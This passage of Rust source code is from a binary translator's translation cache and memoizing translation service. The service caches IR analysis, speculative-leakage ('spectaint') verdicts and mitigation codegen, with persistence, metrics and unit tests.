    fn verdicts_ride_with_optimized_entries() {
        let mut cache = TranslationCache::new();
        cache.insert(0x100, Tier::Basic, dummy_block(0x100));
        assert!(cache.verdict(0x100).is_none());
        cache.insert_optimized(0x300, dummy_block(0x300), dummy_ir(0x300), dummy_verdict(0x300));
        cache.insert_optimized(0x200, dummy_block(0x200), dummy_ir(0x200), dummy_verdict(0x200));
        assert!(cache.verdict(0x200).is_some());
        let all = cache.verdicts();
        assert_eq!(all.len(), 2);
        assert!(all[0].0 < all[1].0, "verdicts are sorted by entry pc");
        let analyzed = cache.analyzed();
        assert_eq!(analyzed.len(), 2);
        assert_eq!(analyzed[0].1.entry_pc(), 0x200);
    }

    #[test]
    fn clear_empties_both_tiers() {
        let mut cache = TranslationCache::new();
        cache.insert(0x100, Tier::Basic, dummy_block(0x100));
        cache.insert_optimized(0x200, dummy_block(0x200), dummy_ir(0x200), dummy_verdict(0x200));
        assert!(!cache.is_empty());
        cache.clear();
        assert!(cache.is_empty());
        assert!(cache.verdicts().is_empty());
    }
}
