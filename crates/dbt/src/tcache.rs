//! Translation cache: maps guest entry addresses to translated blocks.

use dbt_vliw::TranslatedBlock;
use std::collections::HashMap;
use std::sync::Arc;

/// The tier of a cached translation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tier {
    /// First-pass translation of a single basic block, no speculation.
    Basic,
    /// Profile-guided superblock with speculation (and mitigation) applied.
    Optimized,
}

/// Cache of translated blocks, two tiers deep.
///
/// An optimised translation always shadows the basic one for the same entry
/// address.
#[derive(Debug, Clone, Default)]
pub struct TranslationCache {
    basic: HashMap<u64, Arc<TranslatedBlock>>,
    optimized: HashMap<u64, Arc<TranslatedBlock>>,
}

impl TranslationCache {
    /// Creates an empty cache.
    pub fn new() -> TranslationCache {
        TranslationCache::default()
    }

    /// Looks up the best available translation for `pc`.
    pub fn lookup(&self, pc: u64) -> Option<(Arc<TranslatedBlock>, Tier)> {
        if let Some(block) = self.optimized.get(&pc) {
            return Some((Arc::clone(block), Tier::Optimized));
        }
        self.basic.get(&pc).map(|block| (Arc::clone(block), Tier::Basic))
    }

    /// Returns `true` if an optimised translation exists for `pc`.
    pub fn has_optimized(&self, pc: u64) -> bool {
        self.optimized.contains_key(&pc)
    }

    /// Inserts a translation at the given tier, returning a shared handle.
    pub fn insert(&mut self, pc: u64, tier: Tier, block: TranslatedBlock) -> Arc<TranslatedBlock> {
        let block = Arc::new(block);
        match tier {
            Tier::Basic => self.basic.insert(pc, Arc::clone(&block)),
            Tier::Optimized => self.optimized.insert(pc, Arc::clone(&block)),
        };
        block
    }

    /// Number of cached translations (both tiers).
    pub fn len(&self) -> usize {
        self.basic.len() + self.optimized.len()
    }

    /// Returns `true` if nothing has been translated yet.
    pub fn is_empty(&self) -> bool {
        self.basic.is_empty() && self.optimized.is_empty()
    }

    /// Removes every cached translation (used when the mitigation policy is
    /// changed at run time).
    pub fn clear(&mut self) {
        self.basic.clear();
        self.optimized.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dummy_block(pc: u64) -> TranslatedBlock {
        TranslatedBlock {
            entry_pc: pc,
            bundles: vec![],
            phys_reg_count: 0,
            recovery: vec![],
            guest_inst_count: 0,
        }
    }

    #[test]
    fn optimized_shadows_basic() {
        let mut cache = TranslationCache::new();
        assert!(cache.lookup(0x100).is_none());
        cache.insert(0x100, Tier::Basic, dummy_block(0x100));
        assert_eq!(cache.lookup(0x100).unwrap().1, Tier::Basic);
        cache.insert(0x100, Tier::Optimized, dummy_block(0x100));
        assert_eq!(cache.lookup(0x100).unwrap().1, Tier::Optimized);
        assert!(cache.has_optimized(0x100));
        assert_eq!(cache.len(), 2);
    }

    #[test]
    fn clear_empties_both_tiers() {
        let mut cache = TranslationCache::new();
        cache.insert(0x100, Tier::Basic, dummy_block(0x100));
        cache.insert(0x200, Tier::Optimized, dummy_block(0x200));
        assert!(!cache.is_empty());
        cache.clear();
        assert!(cache.is_empty());
    }
}
