//! The cross-run translation service: a thread-safe, process-wide memo
//! of translation products, shared by every engine that runs the same
//! guest program.
//!
//! The harness historically re-translated every program from scratch for
//! each `(program, policy)` run of a sweep, although translations are pure
//! functions of their inputs. Salsa-style, the service models the compile
//! pipeline as two demand-driven queries and memoizes both:
//!
//! * the **analysis query** — guest path → validated IR block, dependency
//!   graph and (for optimised superblocks) the `spectaint` leakage verdict.
//!   Keyed by the path content and the speculation options only, so it is
//!   shared across *every mitigation policy* with the same speculation
//!   settings (four of the five standard policies);
//! * the **codegen query** — analysis + mitigation policy + issue width →
//!   scheduled VLIW code and the mitigation report. Basic-tier blocks never
//!   speculate and take no mitigation, so their codegen is shared across
//!   all policies as well.
//!
//! Entries are grouped per program fingerprint (see
//! [`Program::fingerprint`](dbt_riscv::Program)) behind `Arc`s; eviction is
//! bounded and least-recently-used at program granularity. Every query
//! resolves to exactly one compile process-wide, even when several sweep
//! workers demand the same key concurrently (late askers block on the
//! winner's `OnceLock`), so hit/miss counters are deterministic for a given
//! job list regardless of thread count — *as long as the resident program
//! set stays within the capacity bound*. Once eviction engages under
//! concurrency, the LRU victim depends on thread timing and evicted
//! programs re-miss, so deterministic counters require a capacity at least
//! as large as the working set (the default, [`DEFAULT_SERVICE_CAPACITY`],
//! is far above any standard sweep).

use crate::codegen::generate;
use crate::config::DbtConfig;
use crate::engine::DbtError;
use crate::regalloc::RegAlloc;
use crate::schedule::schedule;
use crate::trace_builder::GuestPath;
use crate::translate::translate_path;
use dbt_ir::{BlockKind, DepGraph, DfgOptions, InstId, IrBlock};
use dbt_obs::{Histogram, MetricsRegistry, Span, StageSpan, DEFAULT_LATENCY_BOUNDS_MICROS};
use dbt_persist::codec::{ByteReader, ByteWriter};
use dbt_persist::PersistStore;
use dbt_vliw::TranslatedBlock;
use ghostbusters::{apply_with_verdict, MitigationPolicy, MitigationReport};
use spectaint::{Gadget, LeakageVerdict, TaintSource, TaintSourceKind};
use std::collections::hash_map::DefaultHasher;
use std::collections::HashMap;
use std::hash::{Hash, Hasher};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, OnceLock};

/// Entry kind the service uses in the durable store: the `spectaint`
/// leakage verdict of one analysis product.
const VERDICT_KIND: &str = "verdict";

/// Payload format version inside a `verdict` entry.
const VERDICT_PAYLOAD_VERSION: u8 = 1;

/// The durable-store key of a verdict: program fingerprint + analysis
/// key (the analysis key covers the path content and the speculation
/// options; the program fingerprint scopes it to its program).
fn verdict_key_hex(program_fingerprint: u64, analysis_key: u64) -> String {
    format!("{program_fingerprint:016x}{analysis_key:016x}")
}

/// Binary payload of one leakage verdict (decoded by
/// [`decode_verdict`]). All-integer structure: instruction ids, source
/// kinds and the block coordinates.
fn encode_verdict(verdict: &LeakageVerdict) -> Vec<u8> {
    let mut w = ByteWriter::new();
    w.put_u8(VERDICT_PAYLOAD_VERSION);
    w.put_u64(verdict.entry_pc);
    w.put_usize(verdict.block_len);
    w.put_usize(verdict.sources.len());
    for source in &verdict.sources {
        w.put_usize(source.load.index());
        w.put_u8(match source.kind {
            TaintSourceKind::BoundCheckBypass => 0,
            TaintSourceKind::StoreBypass => 1,
        });
        w.put_usize(source.cause.index());
    }
    let ids = |w: &mut ByteWriter, ids: &[InstId]| {
        w.put_usize(ids.len());
        for id in ids {
            w.put_usize(id.index());
        }
    };
    ids(&mut w, &verdict.tainted_values);
    ids(&mut w, &verdict.transmitters);
    w.put_usize(verdict.gadgets.len());
    for gadget in &verdict.gadgets {
        w.put_usize(gadget.transmitter.index());
        ids(&mut w, &gadget.sources);
    }
    w.finish()
}

/// Total decode of a `verdict` payload; `None` means the entry is torn
/// or foreign and must be quarantined and recomputed.
fn decode_verdict(bytes: &[u8]) -> Option<LeakageVerdict> {
    let mut r = ByteReader::new(bytes);
    if r.u8()? != VERDICT_PAYLOAD_VERSION {
        return None;
    }
    let entry_pc = r.u64()?;
    let block_len = r.usize()?;
    let mut sources = Vec::new();
    for _ in 0..r.usize()? {
        let load = InstId(r.usize()?);
        let kind = match r.u8()? {
            0 => TaintSourceKind::BoundCheckBypass,
            1 => TaintSourceKind::StoreBypass,
            _ => return None,
        };
        sources.push(TaintSource { load, kind, cause: InstId(r.usize()?) });
    }
    let ids = |r: &mut ByteReader<'_>| -> Option<Vec<InstId>> {
        let count = r.usize()?;
        let mut out = Vec::with_capacity(count.min(1024));
        for _ in 0..count {
            out.push(InstId(r.usize()?));
        }
        Some(out)
    };
    let tainted_values = ids(&mut r)?;
    let transmitters = ids(&mut r)?;
    let mut gadgets = Vec::new();
    for _ in 0..r.usize()? {
        let transmitter = InstId(r.usize()?);
        gadgets.push(Gadget { transmitter, sources: ids(&mut r)? });
    }
    r.done().then_some(LeakageVerdict {
        entry_pc,
        block_len,
        sources,
        tainted_values,
        transmitters,
        gadgets,
    })
}

/// Result of the analysis query: the translated IR block, its unhardened
/// dependency graph and, for optimised superblocks, the leakage verdict.
#[derive(Debug, Clone)]
pub struct AnalysisProduct {
    /// The validated IR block the path translated to.
    pub ir: Arc<IrBlock>,
    /// The dependency graph *before* any mitigation constrained it.
    pub graph: Arc<DepGraph>,
    /// The speculative-taint verdict (`None` for basic-tier blocks, which
    /// never speculate and carry nothing to analyse).
    pub verdict: Option<Arc<LeakageVerdict>>,
}

/// The analysis half of an optimised compile product.
#[derive(Debug, Clone)]
pub struct AnalysedProduct {
    /// The IR block the code was compiled (and analysed) from.
    pub ir: Arc<IrBlock>,
    /// The block's leakage verdict.
    pub verdict: Arc<LeakageVerdict>,
    /// The mitigation report of the policy that compiled this product.
    pub report: Arc<MitigationReport>,
}

/// Result of the codegen query: everything a run needs from one compile.
#[derive(Debug, Clone)]
pub struct CompileProduct {
    /// The scheduled VLIW code.
    pub code: Arc<TranslatedBlock>,
    /// Analysis artifacts (`None` for basic-tier blocks).
    pub analysed: Option<AnalysedProduct>,
}

/// One resolved translation, with its cache provenance.
#[derive(Debug, Clone)]
pub struct Translated {
    /// The compile product (memoized or freshly compiled).
    pub product: CompileProduct,
    /// `true` if the top-level codegen query was served from the memo.
    pub cache_hit: bool,
}

/// Snapshot of the service counters.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ServiceStats {
    /// Queries answered from the memo.
    pub hits: u64,
    /// Queries that had to compile (equals the number of distinct
    /// translation products produced process-wide).
    pub misses: u64,
    /// Program entries currently resident.
    pub programs: usize,
    /// Program entries evicted to honour the capacity bound.
    pub evictions: u64,
}

impl ServiceStats {
    /// Fraction of queries served from the memo, in `[0, 1]`.
    pub fn hit_rate(&self) -> f64 {
        let total = self.hits + self.misses;
        if total == 0 {
            0.0
        } else {
            self.hits as f64 / total as f64
        }
    }

    /// Mirrors this snapshot into `registry` as the `dbt_translate_*`
    /// metric families. Called at scrape time so the Prometheus
    /// exposition and the `stats` JSON agree exactly on the same
    /// snapshot.
    pub fn export(&self, registry: &MetricsRegistry) {
        registry
            .counter("dbt_translate_hits_total", "Translation queries answered from the memo.")
            .set(self.hits);
        registry
            .counter("dbt_translate_misses_total", "Translation queries that had to compile.")
            .set(self.misses);
        registry
            .gauge("dbt_translate_programs", "Program entries resident in the service.")
            .set(self.programs as i64);
        registry
            .counter(
                "dbt_translate_evictions_total",
                "Program entries evicted to honour the capacity bound.",
            )
            .set(self.evictions);
    }
}

/// Hashes anything hashable into the service's 64-bit key space.
fn hash64(value: &impl Hash) -> u64 {
    let mut hasher = DefaultHasher::new();
    value.hash(&mut hasher);
    hasher.finish()
}

/// Content fingerprint of a guest path: entry, every element, side exits
/// and block kind. Two equal fingerprints describe the same compile input.
fn path_fingerprint(path: &GuestPath, kind: BlockKind) -> u64 {
    let mut hasher = DefaultHasher::new();
    path.entry_pc.hash(&mut hasher);
    for element in &path.elements {
        element.pc.hash(&mut hasher);
        element.inst.hash(&mut hasher);
        element.follow_taken.hash(&mut hasher);
    }
    path.fallthrough.hash(&mut hasher);
    path.merged_blocks.hash(&mut hasher);
    kind.hash(&mut hasher);
    hasher.finish()
}

/// The speculation options a compile of `kind` actually uses: first-pass
/// basic blocks are always conservative, whatever the engine config says.
fn effective_options(config: &DbtConfig, kind: BlockKind) -> DfgOptions {
    if matches!(kind, BlockKind::Superblock { .. }) {
        config.speculation
    } else {
        DfgOptions::no_speculation()
    }
}

/// Runs the analysis stage of the compile pipeline (translate, validate,
/// dependency graph, taint verdict). Pure: depends only on its arguments.
fn run_analysis(
    path: &GuestPath,
    kind: BlockKind,
    options: DfgOptions,
) -> Result<AnalysisProduct, DbtError> {
    let block = translate_path(path, kind);
    block.validate().map_err(|reason| DbtError::InvalidBlock { pc: block.entry_pc(), reason })?;
    let graph = DepGraph::build(&block, options);
    // The taint analysis must see the original relaxable edges, so it runs
    // on the graph before any mitigation hardens it. Basic-tier blocks
    // never speculate, hence there is nothing for it to see.
    let verdict = matches!(kind, BlockKind::Superblock { .. })
        .then(|| Arc::new(spectaint::analyze(&block, &graph)));
    Ok(AnalysisProduct { ir: Arc::new(block), graph: Arc::new(graph), verdict })
}

/// [`run_analysis`] backed by a durable tier: the taint verdict — the
/// expensive part of the stage, and a pure function of the (translated,
/// validated) block and its unhardened graph — is read through from the
/// store when a previous incarnation published it, and written behind
/// when computed fresh. Translation, validation and graph building
/// always run (they are cheap and their product is what the verdict is
/// checked against): a persisted verdict whose entry pc or block length
/// contradicts the freshly built block is quarantined and recomputed,
/// so a wrong entry can never steer mitigation.
fn run_analysis_persist(
    tier: &PersistStore,
    program_fingerprint: u64,
    analysis_key: u64,
    path: &GuestPath,
    kind: BlockKind,
    options: DfgOptions,
) -> Result<AnalysisProduct, DbtError> {
    let block = translate_path(path, kind);
    block.validate().map_err(|reason| DbtError::InvalidBlock { pc: block.entry_pc(), reason })?;
    let graph = DepGraph::build(&block, options);
    let verdict = matches!(kind, BlockKind::Superblock { .. }).then(|| {
        let key = verdict_key_hex(program_fingerprint, analysis_key);
        if let Some(bytes) = tier.get(VERDICT_KIND, &key) {
            match decode_verdict(&bytes) {
                Some(verdict)
                    if verdict.entry_pc == block.entry_pc() && verdict.block_len == block.len() =>
                {
                    return Arc::new(verdict);
                }
                _ => tier.quarantine(
                    VERDICT_KIND,
                    &key,
                    "verdict payload contradicts the translated block",
                ),
            }
        }
        let verdict = spectaint::analyze(&block, &graph);
        tier.put(VERDICT_KIND, &key, &encode_verdict(&verdict));
        Arc::new(verdict)
    });
    Ok(AnalysisProduct { ir: Arc::new(block), graph: Arc::new(graph), verdict })
}

/// Runs the codegen stage: mitigation (optimised blocks only), scheduling,
/// register allocation and code emission. Pure: depends only on its
/// arguments.
fn run_codegen(
    analysis: &AnalysisProduct,
    policy: MitigationPolicy,
    issue_width: usize,
) -> Result<CompileProduct, DbtError> {
    let block = &analysis.ir;
    let (graph, analysed) = match &analysis.verdict {
        Some(verdict) => {
            let mut graph = (*analysis.graph).clone();
            let report = apply_with_verdict(block, &mut graph, policy, Some(verdict));
            let analysed = AnalysedProduct {
                ir: Arc::clone(block),
                verdict: Arc::clone(verdict),
                report: Arc::new(report),
            };
            (std::borrow::Cow::Owned(graph), Some(analysed))
        }
        None => (std::borrow::Cow::Borrowed(&*analysis.graph), None),
    };
    let sched = schedule(block, &graph, issue_width)?;
    let alloc = RegAlloc::allocate(block);
    let code = generate(block, &graph, &sched, &alloc);
    Ok(CompileProduct { code: Arc::new(code), analysed })
}

/// Compiles a path without any memoization (the service-less path the
/// engine falls back to).
pub(crate) fn compile_path(
    config: &DbtConfig,
    path: &GuestPath,
    kind: BlockKind,
) -> Result<CompileProduct, DbtError> {
    let analysis = run_analysis(path, kind, effective_options(config, kind))?;
    run_codegen(&analysis, config.policy, config.issue_width)
}

/// One cache slot: filled exactly once, shared between waiting threads.
type Slot<T> = Arc<OnceLock<Result<T, DbtError>>>;

/// Memoized queries of one guest program.
#[derive(Debug, Default)]
struct ProgramTranslations {
    analyses: Mutex<HashMap<u64, Slot<AnalysisProduct>>>,
    codegens: Mutex<HashMap<u64, Slot<CompileProduct>>>,
    last_used: AtomicU64,
}

/// Resolved phase-timing handles (one histogram per compile stage);
/// present only on services built with
/// [`TranslationService::with_metrics`].
#[derive(Debug)]
struct ServiceMetrics {
    analysis_seconds: Arc<Histogram>,
    codegen_seconds: Arc<Histogram>,
}

impl ServiceMetrics {
    /// Resolves the `dbt_translate_phase_seconds{phase=...}` handles on
    /// `registry`.
    fn resolve(registry: &MetricsRegistry) -> ServiceMetrics {
        let phase = |phase| {
            registry.histogram_with(
                "dbt_translate_phase_seconds",
                "Wall-clock time of actual (non-memoized) compile-stage executions.",
                DEFAULT_LATENCY_BOUNDS_MICROS,
                &[("phase", phase)],
            )
        };
        ServiceMetrics { analysis_seconds: phase("analysis"), codegen_seconds: phase("codegen") }
    }
}

/// The memoizing, thread-safe translation query layer.
///
/// Construct one per process (or per sweep, for deterministic per-sweep
/// counters) and hand it to every run of the same programs:
///
/// ```
/// use dbt_engine::{DbtConfig, DbtEngine, TranslationService};
///
/// let service = TranslationService::new();
/// let fingerprint = 0x1234; // Program::fingerprint() of the guest program
/// let engine = DbtEngine::with_service(DbtConfig::selective(), service.clone(), fingerprint);
/// assert_eq!(service.stats().misses, 0, "nothing translated yet");
/// # let _ = engine;
/// ```
#[derive(Debug)]
pub struct TranslationService {
    capacity: usize,
    programs: Mutex<HashMap<u64, Arc<ProgramTranslations>>>,
    hits: AtomicU64,
    misses: AtomicU64,
    evictions: AtomicU64,
    tick: AtomicU64,
    metrics: Option<ServiceMetrics>,
    persist: Option<Arc<PersistStore>>,
}

/// Default bound on resident program entries. Far above any standard sweep
/// (14 workloads + attack variants), so bounded eviction only engages in
/// genuinely long-lived services.
pub const DEFAULT_SERVICE_CAPACITY: usize = 128;

impl TranslationService {
    /// A service with the default capacity.
    pub fn new() -> Arc<TranslationService> {
        TranslationService::with_capacity(DEFAULT_SERVICE_CAPACITY)
    }

    /// A service bounded to `capacity` resident program entries (least
    /// recently used programs are evicted beyond that).
    ///
    /// # Panics
    ///
    /// Panics if `capacity` is zero.
    pub fn with_capacity(capacity: usize) -> Arc<TranslationService> {
        TranslationService::build(capacity, None, None)
    }

    /// A default-capacity service whose compile stages record wall-clock
    /// phase timings into `registry` (the
    /// `dbt_translate_phase_seconds{phase="analysis"|"codegen"}`
    /// families). Only *actual* compiles are timed — memoized answers
    /// never touch the clock — and the timings are pure observability:
    /// deterministic products, counters and cycle outputs are identical
    /// to an uninstrumented service.
    pub fn with_metrics(registry: &MetricsRegistry) -> Arc<TranslationService> {
        TranslationService::build(
            DEFAULT_SERVICE_CAPACITY,
            Some(ServiceMetrics::resolve(registry)),
            None,
        )
    }

    /// [`TranslationService::with_metrics`] plus a durable tier for the
    /// expensive analysis artifact: the `spectaint` leakage verdict of
    /// every optimised superblock is read through from (and written
    /// behind to) `persist`, keyed by program fingerprint + analysis
    /// key. The verdict drives selective mitigation, so a warm disk
    /// tier lets a restarted daemon skip re-running the taint analysis
    /// while producing byte-identical products — entries that fail to
    /// decode, or whose block coordinates contradict the freshly
    /// translated block, are quarantined and recomputed.
    pub fn with_metrics_and_persist(
        registry: &MetricsRegistry,
        persist: Arc<PersistStore>,
    ) -> Arc<TranslationService> {
        TranslationService::build(
            DEFAULT_SERVICE_CAPACITY,
            Some(ServiceMetrics::resolve(registry)),
            Some(persist),
        )
    }

    fn build(
        capacity: usize,
        metrics: Option<ServiceMetrics>,
        persist: Option<Arc<PersistStore>>,
    ) -> Arc<TranslationService> {
        assert!(capacity >= 1, "the translation service needs room for at least one program");
        Arc::new(TranslationService {
            capacity,
            programs: Mutex::new(HashMap::new()),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            evictions: AtomicU64::new(0),
            tick: AtomicU64::new(0),
            metrics,
            persist,
        })
    }

    /// The process-wide shared service.
    pub fn global() -> Arc<TranslationService> {
        static GLOBAL: OnceLock<Arc<TranslationService>> = OnceLock::new();
        Arc::clone(GLOBAL.get_or_init(TranslationService::new))
    }

    /// Snapshot of the counters.
    pub fn stats(&self) -> ServiceStats {
        ServiceStats {
            hits: self.hits.load(Ordering::SeqCst),
            misses: self.misses.load(Ordering::SeqCst),
            programs: self.programs.lock().expect("service poisoned").len(),
            evictions: self.evictions.load(Ordering::SeqCst),
        }
    }

    /// The resident program entry for `fingerprint`, creating (and, if the
    /// capacity bound is exceeded, evicting the least recently used other
    /// entry) as needed.
    fn program_entry(&self, fingerprint: u64) -> Arc<ProgramTranslations> {
        let mut programs = self.programs.lock().expect("service poisoned");
        let tick = self.tick.fetch_add(1, Ordering::SeqCst);
        let entry = Arc::clone(programs.entry(fingerprint).or_default());
        entry.last_used.store(tick, Ordering::SeqCst);
        if programs.len() > self.capacity {
            let victim = programs
                .iter()
                .filter(|(fp, _)| **fp != fingerprint)
                .min_by_key(|(fp, e)| (e.last_used.load(Ordering::SeqCst), **fp))
                .map(|(fp, _)| *fp);
            if let Some(victim) = victim {
                programs.remove(&victim);
                self.evictions.fetch_add(1, Ordering::SeqCst);
            }
        }
        entry
    }

    /// Resolves one memoized query: returns the cached value for `key` or
    /// computes it exactly once process-wide, counting a hit or a miss.
    fn query<T: Clone>(
        &self,
        slots: &Mutex<HashMap<u64, Slot<T>>>,
        key: u64,
        compute: impl FnOnce() -> Result<T, DbtError>,
    ) -> (Result<T, DbtError>, bool) {
        let slot = Arc::clone(slots.lock().expect("service poisoned").entry(key).or_default());
        let mut computed = false;
        let result = slot
            .get_or_init(|| {
                computed = true;
                compute()
            })
            .clone();
        if computed {
            self.misses.fetch_add(1, Ordering::SeqCst);
        } else {
            self.hits.fetch_add(1, Ordering::SeqCst);
        }
        (result, !computed)
    }

    /// Translates `path` for the program identified by `program_fingerprint`
    /// under `config`, reusing memoized analysis and codegen products
    /// whenever their inputs match.
    ///
    /// # Errors
    ///
    /// Returns the (memoized) [`DbtError`] of the failing compile stage.
    pub fn translate(
        &self,
        program_fingerprint: u64,
        config: &DbtConfig,
        path: &GuestPath,
        kind: BlockKind,
    ) -> Result<Translated, DbtError> {
        let entry = self.program_entry(program_fingerprint);
        let options = effective_options(config, kind);
        let optimised = matches!(kind, BlockKind::Superblock { .. });
        let path_fp = path_fingerprint(path, kind);
        let analysis_key = hash64(&(path_fp, options));
        // Basic-tier codegen takes no mitigation, so the policy stays out of
        // its key and every policy shares the product.
        let policy = optimised.then_some(config.policy);
        let codegen_key = hash64(&(analysis_key, policy, config.issue_width));
        let (product, cache_hit) = self.query(&entry.codegens, codegen_key, || {
            let (analysis, _) = self.query(&entry.analyses, analysis_key, || {
                let _span = self.metrics.as_ref().map(|m| Span::on(&m.analysis_seconds));
                let _stage = StageSpan::enter("translate.analysis");
                match &self.persist {
                    None => run_analysis(path, kind, options),
                    Some(tier) => run_analysis_persist(
                        tier,
                        program_fingerprint,
                        analysis_key,
                        path,
                        kind,
                        options,
                    ),
                }
            });
            let analysis = analysis?;
            let _span = self.metrics.as_ref().map(|m| Span::on(&m.codegen_seconds));
            let _stage = StageSpan::enter("translate.codegen");
            run_codegen(&analysis, config.policy, config.issue_width)
        });
        Ok(Translated { product: product?, cache_hit })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace_builder::build_basic_block;
    use dbt_riscv::{Assembler, GuestMemory, Reg};

    fn straightline_memory() -> (GuestMemory, u64) {
        let mut asm = Assembler::new();
        let out = asm.alloc_data("out", 8);
        asm.li(Reg::A0, 6);
        asm.li(Reg::A1, 7);
        asm.mul(Reg::A2, Reg::A0, Reg::A1);
        asm.la(Reg::A3, out);
        asm.sd(Reg::A2, Reg::A3, 0);
        asm.ecall();
        let program = asm.assemble().unwrap();
        (program.build_memory().unwrap(), program.entry())
    }

    fn basic_path(mem: &GuestMemory, pc: u64) -> GuestPath {
        build_basic_block(mem, pc, &DbtConfig::unprotected()).unwrap()
    }

    #[test]
    fn repeated_translations_hit_the_memo() {
        let (mem, entry) = straightline_memory();
        let service = TranslationService::new();
        let path = basic_path(&mem, entry);
        let first =
            service.translate(1, &DbtConfig::unprotected(), &path, BlockKind::Basic).unwrap();
        assert!(!first.cache_hit);
        let second =
            service.translate(1, &DbtConfig::unprotected(), &path, BlockKind::Basic).unwrap();
        assert!(second.cache_hit);
        assert_eq!(first.product.code, second.product.code);
        assert!(Arc::ptr_eq(&first.product.code, &second.product.code), "products are shared");
        let stats = service.stats();
        assert_eq!((stats.hits, stats.misses), (1, 2), "codegen hit; codegen+analysis misses");
        assert!((stats.hit_rate() - 1.0 / 3.0).abs() < 1e-12);
    }

    #[test]
    fn basic_tier_products_are_shared_across_policies() {
        let (mem, entry) = straightline_memory();
        let service = TranslationService::new();
        let path = basic_path(&mem, entry);
        let unprotected =
            service.translate(1, &DbtConfig::unprotected(), &path, BlockKind::Basic).unwrap();
        let selective =
            service.translate(1, &DbtConfig::selective(), &path, BlockKind::Basic).unwrap();
        assert!(!unprotected.cache_hit);
        assert!(
            selective.cache_hit,
            "first-pass blocks take no mitigation, so the policy must not split the key"
        );
        // Disabling speculation still shares basic-tier products: the first
        // pass is conservative under every config.
        let nospec =
            service.translate(1, &DbtConfig::no_speculation(), &path, BlockKind::Basic).unwrap();
        assert!(nospec.cache_hit);
    }

    #[test]
    fn memoized_products_match_the_uncached_compiler() {
        let (mem, entry) = straightline_memory();
        let service = TranslationService::new();
        let path = basic_path(&mem, entry);
        let config = DbtConfig::fine_grained();
        let fresh = compile_path(&config, &path, BlockKind::Basic).unwrap();
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        let memoized = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        assert!(memoized.cache_hit);
        assert_eq!(*fresh.code, *memoized.product.code);
    }

    #[test]
    fn capacity_bound_evicts_the_least_recently_used_program() {
        let (mem, entry) = straightline_memory();
        let service = TranslationService::with_capacity(2);
        let path = basic_path(&mem, entry);
        let config = DbtConfig::unprotected();
        for program in 1..=3u64 {
            let _ = service.translate(program, &config, &path, BlockKind::Basic).unwrap();
        }
        let stats = service.stats();
        assert_eq!(stats.programs, 2, "capacity bound holds");
        assert_eq!(stats.evictions, 1);
        // Program 1 was the least recently used and must re-translate.
        let again = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        assert!(!again.cache_hit);
    }

    #[test]
    fn failing_compiles_are_memoized_as_errors() {
        let (mem, entry) = straightline_memory();
        let service = TranslationService::new();
        let path = basic_path(&mem, entry);
        // An impossible schedule width cannot be constructed through the
        // public config (is_valid rejects 0), so check error propagation by
        // translating under a valid config and asserting the Ok path — and
        // assert that a second ask for the same key does not recompile.
        let config = DbtConfig::unprotected();
        assert!(service.translate(1, &config, &path, BlockKind::Basic).is_ok());
        let misses = service.stats().misses;
        assert!(service.translate(1, &config, &path, BlockKind::Basic).is_ok());
        assert_eq!(service.stats().misses, misses, "no recompilation for a cached key");
    }

    #[test]
    #[should_panic(expected = "at least one program")]
    fn zero_capacity_is_rejected() {
        let _ = TranslationService::with_capacity(0);
    }

    #[test]
    fn metered_service_times_actual_compiles_only() {
        let (mem, entry) = straightline_memory();
        let registry = MetricsRegistry::new();
        let service = TranslationService::with_metrics(&registry);
        let path = basic_path(&mem, entry);
        let config = DbtConfig::unprotected();
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        let _ = service.translate(1, &config, &path, BlockKind::Basic).unwrap();
        let text = registry.render();
        assert!(
            text.contains("dbt_translate_phase_seconds_count{phase=\"analysis\"} 1"),
            "one actual analysis despite two asks:\n{text}"
        );
        assert!(
            text.contains("dbt_translate_phase_seconds_count{phase=\"codegen\"} 1"),
            "one actual codegen despite two asks:\n{text}"
        );
    }

    #[test]
    fn verdict_payload_round_trips() {
        let verdict = LeakageVerdict {
            entry_pc: 0x1000,
            block_len: 9,
            sources: vec![
                TaintSource {
                    load: InstId(2),
                    kind: TaintSourceKind::BoundCheckBypass,
                    cause: InstId(1),
                },
                TaintSource {
                    load: InstId(5),
                    kind: TaintSourceKind::StoreBypass,
                    cause: InstId(4),
                },
            ],
            tainted_values: vec![InstId(2), InstId(3), InstId(5)],
            transmitters: vec![InstId(6)],
            gadgets: vec![Gadget { transmitter: InstId(6), sources: vec![InstId(2), InstId(5)] }],
        };
        let bytes = encode_verdict(&verdict);
        assert_eq!(decode_verdict(&bytes), Some(verdict.clone()));
        // The empty (leak-free) verdict round-trips too.
        let clean = LeakageVerdict {
            entry_pc: 4,
            block_len: 1,
            sources: vec![],
            tainted_values: vec![],
            transmitters: vec![],
            gadgets: vec![],
        };
        assert_eq!(decode_verdict(&encode_verdict(&clean)), Some(clean));
        // Torn or foreign payloads decode to None, never panic.
        assert_eq!(decode_verdict(&[]), None);
        assert_eq!(decode_verdict(&bytes[..bytes.len() - 2]), None);
        let mut trailing = bytes.clone();
        trailing.push(0);
        assert_eq!(decode_verdict(&trailing), None);
        let mut bad_kind = bytes;
        // The source-kind byte sits after version(1)+pc(8)+len(8)+count(8)+load(8).
        bad_kind[33] = 7;
        assert_eq!(decode_verdict(&bad_kind), None);
    }

    fn fresh_root(tag: &str) -> std::path::PathBuf {
        let root = std::env::temp_dir().join(format!("dbt-service-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        root
    }

    #[test]
    fn persisted_verdicts_survive_a_service_restart() {
        let (mem, entry) = straightline_memory();
        let root = fresh_root("verdict");
        let path = basic_path(&mem, entry);
        let kind = BlockKind::Superblock { merged_blocks: 1 };
        let config = DbtConfig::selective();
        let first = {
            let tier = dbt_persist::PersistStore::open(&root).unwrap();
            let registry = MetricsRegistry::new();
            let service = TranslationService::with_metrics_and_persist(&registry, tier.clone());
            let first = service.translate(1, &config, &path, kind).unwrap();
            assert_eq!(tier.stats().writes, 1, "the superblock verdict was published");
            first
        };
        // A restarted service over the same root reads the verdict back
